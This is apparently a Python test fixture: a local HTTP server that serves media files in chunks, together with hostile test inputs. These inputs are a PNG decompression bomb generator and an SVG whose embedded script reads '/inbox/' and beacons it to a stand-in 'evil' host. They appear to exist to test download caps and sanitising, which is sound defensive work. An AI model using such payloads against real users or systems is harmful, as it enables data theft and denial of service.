"""A platform CDN on 127.0.0.1 for media tests and the media benchmark: a real HTTP server
thread that streams its bodies in chunks and counts the bytes it managed to send, so a test can
tell that a download stopped at the cap instead of reading the whole file."""

from __future__ import annotations

import functools
import io
import struct
import threading
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

CHUNK = 64 * 1024


@dataclass
class Route:
    status: int = 200
    content_type: str = "application/octet-stream"
    body: bytes | Callable[[], Iterator[bytes]] = b""
    length: bool = True  # send Content-Length (a streamed body of unknown size when False)
    headers: dict[str, str] = field(default_factory=dict)


class CDN:
    def __init__(self) -> None:
        self.routes: dict[str, Route] = {}
        self.sent: dict[str, int] = {}
        self.hits: dict[str, int] = {}
        cdn = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.0"  # a body without a length ends when the server closes

            def log_message(self, *args) -> None:
                pass

            def do_GET(self) -> None:
                path = self.path.split("?", 1)[0]
                cdn.hits[path] = cdn.hits.get(path, 0) + 1
                route = cdn.routes.get(path) or Route(status=404, body=b"not found")
                self.send_response(route.status)
                self.send_header("Content-Type", route.content_type)
                for name, value in route.headers.items():
                    self.send_header(name, value)
                if isinstance(route.body, bytes) and route.length:
                    self.send_header("Content-Length", str(len(route.body)))
                self.end_headers()
                chunks = (
                    (route.body[i : i + CHUNK] for i in range(0, len(route.body), CHUNK))
                    if isinstance(route.body, bytes)
                    else route.body()
                )
                sent = 0
                try:
                    for chunk in chunks:
                        self.wfile.write(chunk)
                        sent += len(chunk)
                        cdn.sent[path] = sent
                except (BrokenPipeError, ConnectionResetError):
                    pass  # the client hung up: what it did not read was never sent

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.host = f"127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def url(self, path: str) -> str:
        return f"http://{self.host}{path}"

    def __enter__(self) -> CDN:
        self.thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self.server.shutdown()
        self.server.server_close()


def zeros(total: int) -> Callable[[], Iterator[bytes]]:
    """A body of ``total`` zero bytes, made as it is sent (a 2 GB file costs no memory)."""
    block = b"\x00" * CHUNK

    def body() -> Iterator[bytes]:
        left = total
        while left > 0:
            yield block[: min(CHUNK, left)]
            left -= CHUNK

    return body


def jpeg(size=(1200, 900), *, gps: bool = True) -> bytes:
    """A JPEG photo with EXIF (and a GPS position, as phones write it)."""
    from PIL import Image

    image = Image.new("RGB", size, (200, 40, 40))
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"  # Make
    if gps:
        exif[0x8825] = {1: "N", 2: (52.0, 22.0, 12.0), 3: "E", 4: (4.0, 53.0, 30.0)}
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif)
    return out.getvalue()


@functools.cache
def png_bomb(width: int = 12_000, height: int = 12_000) -> bytes:
    """A small PNG of ``width`` × ``height`` grey pixels of zeros (144 megapixels, 144 MB
    decoded, about 140 kB on the wire): the classic decompression bomb."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data))
            + kind
            + data
            + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
        )

    compressor = zlib.compressobj(9)
    block = b"\x00" * ((width + 1) * 500)  # 500 rows, each a filter byte and its pixels
    data = bytearray()
    for _ in range(height // 500):
        data += compressor.compress(block)
    data += compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", bytes(data))
        + chunk(b"IEND", b"")
    )


SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>fetch('/inbox/').then(r=>r.text()).then(t=>navigator.sendBeacon('//evil',t))"
    b"</script></svg>"
)
